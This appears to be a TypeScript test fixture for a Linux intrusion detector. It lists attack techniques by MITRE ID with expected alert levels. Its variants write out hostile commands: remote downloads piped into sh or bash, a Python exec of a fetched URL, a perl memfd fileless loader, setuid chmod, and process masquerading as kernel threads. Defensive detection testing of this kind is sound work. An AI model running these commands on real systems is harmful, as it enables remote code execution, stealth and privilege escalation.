/** Programs that came after the image, or that hide what they are. */
import { bash, called, debian, intruder, run, sh, type Technique } from '../technique.ts'

const perlMemory = `$n="x";$fd=syscall(319,$n,0);open($m,">&=",$fd);open($b,"<","/bin/busybox");binmode $b;
print $m $_ while read($b,$_,65536);close $b;$m->flush;exec {"/proc/$$/fd/$fd"} "true"`

export const files: readonly Technique[] = [
  {
    name: 'execution of a dropped file',
    mitre: 'T1105',
    expected: 'high',
    seen: 3,
    variants: [
      sh('a copied binary', 'cp /bin/busybox /home-x; chmod 755 /home-x; /home-x true; exit 0'),
      sh(
        'in a hidden directory',
        'mkdir -p /var/.x; cp /bin/busybox /var/.x/kworker; /var/.x/kworker true; exit 0',
      ),
      sh('among the programs', 'cp /bin/busybox /bin/sshd-x; /bin/sshd-x true; exit 0'),
      sh('fetched', 'wget -qO /w http://203.0.113.9:8000/busybox; chmod 755 /w; /w true; exit 0'),
      sh('decoded', 'base64 /bin/busybox | base64 -d >/b; chmod 755 /b; /b true; exit 0'),
      {
        name: 'by a program',
        args: ['/opt/i', 'drop', '/bin/busybox', '/srv', 'true'],
        programs: intruder,
      },
      {
        name: 'deleted before it runs',
        args: ['/opt/i', 'unlinked', '/bin/busybox', '/ghost', 'true'],
        programs: intruder,
      },
      sh('in place of another', 'cp /bin/busybox /n; mv /n /opt/p; /opt/p true; exit 0', {
        '/opt/p': 'busybox',
      }),
      sh('a program of the image, changed', 'echo x >>/opt/p; /opt/p true; exit 0', {
        '/opt/p': 'busybox',
      }),
    ],
  },
  {
    name: 'execution from memory',
    mitre: 'T1620',
    expected: 'high',
    seen: 3,
    variants: [
      { name: 'busybox', args: ['/opt/i', 'memory', '/bin/busybox', 'true'], programs: intruder },
      {
        name: 'itself',
        args: ['/opt/i', 'memory', '/opt/i', 'child', '/bin/true'],
        programs: intruder,
      },
      sh('under a shell', '/opt/i memory /bin/busybox id; exit 0', intruder),
      debian('perl', '/usr/bin/perl', '-e', perlMemory),
      {
        name: 'which runs something else',
        args: ['/opt/i', 'memory', '/opt/i', 'as', '[kworker/0:1]', '/bin/true'],
        programs: intruder,
      },
      {
        name: 'a shell',
        args: ['/opt/i', 'memory', '/bin/busybox', 'sh', '-c', 'id'],
        programs: intruder,
      },
    ],
  },
  {
    name: 'download piped into a shell',
    mitre: 'T1105',
    expected: 'medium',
    seen: 3,
    variants: [
      sh('wget to sh', 'wget -qO- http://127.0.0.1:1/x | sh; exit 0'),
      sh('curl to bash', 'true; curl -s http://127.0.0.1:1/x | bash; exit 0'),
      sh('process substitution', 'true "bash <(curl -s http://127.0.0.1:1/x)"; exit 0'),
      sh('wget to ash', 'true; wget -qO- http://203.0.113.9:8000/x | ash; exit 0'),
      bash('command substitution', 'bash -c "$(curl -fsS http://203.0.113.9:8000/x)"; exit 0'),
      sh('by a file', 'wget -qO /x.sh http://203.0.113.9:8000/x && sh /x.sh; exit 0'),
      called(
        'python',
        '/usr/bin/python3',
        '-c',
        'import urllib.request as u;exec(u.urlopen("http://203.0.113.9:8000/x").read())',
      ),
      sh('with tee between', 'wget -qO- http://203.0.113.9:8000/x | tee /tmp/x | sh; exit 0'),
      debian('perl', '/usr/bin/perl', '-e', 'system(`curl -s http://203.0.113.9:8000/x`)'),
    ],
  },
  {
    name: 'decoded script',
    mitre: 'T1140',
    expected: 'medium',
    variants: [
      sh('base64 to sh', 'echo dHJ1ZQo= | base64 -d | sh; exit 0'),
      bash('openssl to bash', 'echo dHJ1ZQo= | openssl base64 -d | bash; exit 0'),
      called('python', '/usr/bin/python3', '-c', 'import base64;exec(base64.b64decode("MQ=="))'),
      debian('perl', '/usr/bin/perl', '-MMIME::Base64', '-e', 'eval(decode_base64("MQ=="))'),
      bash('command substitution', 'bash -c "$(base64 -d <<<dHJ1ZQo=)"; exit 0'),
      sh('xxd to sh', 'echo 747275650a | xxd -r -p | sh; exit 0'),
    ],
  },
  {
    name: 'execution from a directory for temporary files',
    mitre: 'T1036.005',
    expected: 'medium',
    seen: 3,
    variants: [
      sh('/tmp', 'cp /bin/busybox /tmp/x; /tmp/x true; exit 0'),
      sh('/var/tmp', 'mkdir -p /var/tmp; cp /bin/busybox /var/tmp/.y; /var/tmp/.y true; exit 0'),
      sh('/dev/shm', 'mkdir -p /dev/shm; cp /bin/busybox /dev/shm/z; /dev/shm/z true; exit 0'),
      sh('/run', 'mkdir -p /run/lock; cp /bin/busybox /run/lock/q; /run/lock/q true; exit 0'),
      sh('a script', 'printf "#!/bin/sh\\ntrue\\n" >/tmp/s; chmod 755 /tmp/s; /tmp/s; exit 0'),
      sh('a script of a shell', 'echo true >/tmp/s; /bin/sh /tmp/s; exit 0'),
    ],
  },
  {
    name: 'package manager',
    mitre: 'T1072',
    expected: 'medium',
    variants: [
      called('apt-get', '/usr/bin/apt-get', 'install', '-y', 'nmap'),
      called('apk', '/sbin/apk', 'add', '--no-cache', 'curl'),
      called('dnf', '/usr/bin/dnf', '-y', 'install', 'gcc'),
      called('pip', '/usr/bin/pip3', 'install', 'impacket'),
      called('python', '/usr/bin/python3.11', '-m', 'pip', 'install', 'impacket'),
      called('npm', '/usr/bin/npm', 'install', '-g', 'ngrok'),
      called('zypper', '/usr/bin/zypper', '--non-interactive', 'in', 'socat'),
    ],
  },
  {
    name: 'compiler',
    mitre: 'T1027.004',
    expected: 'medium',
    variants: [
      called('gcc', '/usr/bin/gcc', '-o', 'x', 'x.c'),
      called('Debian’s gcc', '/usr/bin/x86_64-linux-gnu-gcc-12', 'x.c'),
      called('tcc', '/usr/bin/tcc', '-run', 'x.c'),
      called('go', '/usr/local/go/bin/go', 'build', 'x.go'),
      called('rustc', '/usr/bin/rustc', 'x.rs'),
    ],
  },
  {
    name: 'rights given to a program',
    mitre: 'T1548.001',
    expected: 'medium',
    variants: [
      run('u+s', '/bin/chmod', 'u+s', '/bin/busybox'),
      run('an octal mode', '/bin/chmod', '4755', '/bin/busybox'),
      called('setcap', '/sbin/setcap', 'cap_setuid+ep', '/usr/bin/perl'),
      run('both bits', '/bin/chmod', '6755', '/bin/busybox'),
      called('install', '/usr/bin/install', '-m', '4755', '/bin/sh', '/opt/s'),
    ],
  },
  {
    name: 'rights gained',
    mitre: 'T1548.001',
    expected: 'medium',
    variants: ['/opt/helper', '/usr/bin/sudo', '/usr/bin/pkexec', '/bin/su-x'].map((path) => ({
      name: path,
      args: ['/opt/i', 'child', path, 'child', '/bin/true'],
      programs: { ...intruder, [path]: 'setuid' },
      uid: 1000,
      capabilities: ['CAP_SETUID', 'CAP_CHOWN', 'CAP_DAC_OVERRIDE'],
    })),
  },
  {
    name: 'hidden program',
    mitre: 'T1564.001',
    expected: 'medium',
    variants: ['/opt/.cache/x', '/usr/lib/.../x', '/etc/.x', '/var/lib/ /x'].map((path) => ({
      name: path,
      args: [path, 'true'],
      programs: { [path]: 'intruder' },
    })),
  },
  {
    name: 'program that calls itself another',
    mitre: 'T1036.004',
    expected: 'medium',
    variants: [
      ['[kworker/0:0]', '/opt/i'],
      ['[kthreadd]', '/bin/busybox'],
      ['/usr/sbin/sshd', '/opt/i'],
      ['nginx: worker process', '/opt/i'],
      ['/sbin/init', '/opt/i'],
    ].map(([name = '', path = '']) => ({
      name,
      args: ['/opt/i', 'as', name, path, 'true'],
      programs: intruder,
    })),
  },
]
